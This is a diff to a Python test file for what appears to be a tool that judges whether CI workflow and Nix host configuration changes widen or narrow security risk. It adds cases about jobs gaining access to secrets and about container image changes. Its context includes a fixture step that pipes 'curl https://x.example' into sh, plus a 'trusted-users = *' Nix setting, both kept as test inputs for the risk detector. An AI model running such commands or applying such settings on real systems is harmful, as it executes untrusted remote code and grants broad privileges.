@@ -76,10 +76,12 @@ def fetched(**fields: Any) -> Host:
     return host(secrets=[VaultSecret(name="db", key="token", **fields)], vault=vault)
 
 
-def repository(on: Any = ("push",), runs_on: str = "box", steps: Any = ()) -> Repository:
+def repository(
+    on: Any = ("push",), runs_on: str = "box", steps: Any = (), env: Any = None
+) -> Repository:
     """A repository with one workflow of one job."""
     job = Job(name="test", runs_on=runs_on, steps=[Step(run="make"), *steps])
-    flow = Workflow(file="test.yaml", on=on, jobs=[job])
+    flow = Workflow(file="test.yaml", on=on, env=env or {}, jobs=[job])
     return Repository(name="alice/web", workflows=[flow])
 
 
@@ -258,6 +260,28 @@ WIDER = {
         repository(steps=[Step(run="curl https://x.example | sh")]),
         "what jobs do: other scripts",
     ),
+    "secret of the forge": (
+        repository(),
+        repository(steps=[Step(run="make", env={"KEY": "${{ secrets.DEPLOY }}"})]),
+        "what jobs do: gets secrets.DEPLOY",
+    ),
+    "secret as an input": (
+        repository(steps=[checkout()]),
+        repository(
+            steps=[Step(uses=checkout().uses, inputs={"token": "${{ github.x || secrets['A'] }}"})]
+        ),
+        "what jobs do: gets secrets['A']",
+    ),
+    "secret of all jobs": (
+        repository(),
+        repository(env={"KEY": "${{ secrets.DEPLOY }}"}),
+        "jobs get secrets.DEPLOY",
+    ),
+    "another image": (
+        container(labels=["n:docker://nix:2", "m:docker://a"]),
+        container(labels=["n:docker://nix:latest", "m:docker://a"]),
+        "jobs run in another image: nix:latest",
+    ),
     "raw Nix settings": (
         host(),
         host(options={"nix.extraOptions": "trusted-users = *"}),
@@ -285,6 +309,14 @@ NARROWER = {
     "risk goes": (native(accepted=[accept("NG501", reason="a")]), native()),
     "socket": (boxes(docker_host="automount"), boxes(docker_host="-")),
     "insiders": (repository(on=["push", "pull_request"]), repository()),
+    "no secret": (
+        repository(steps=[Step(run="make", env={"KEY": "${{ secrets.DEPLOY }}"})]),
+        repository(steps=[Step(run="make", env={"KEY": "secrets.DEPLOY"})]),
+    ),
+    "another label": (
+        container(labels=["n:docker://nix:2"]),
+        container(labels=["n:docker://nix:2", "m:docker://a"]),
+    ),
     "hides more": (
         host(options={f"{UNIT}.InaccessiblePaths": ["/a"]}),
         host(options={f"{UNIT}.InaccessiblePaths": ["/a", "/run/secrets"]}),
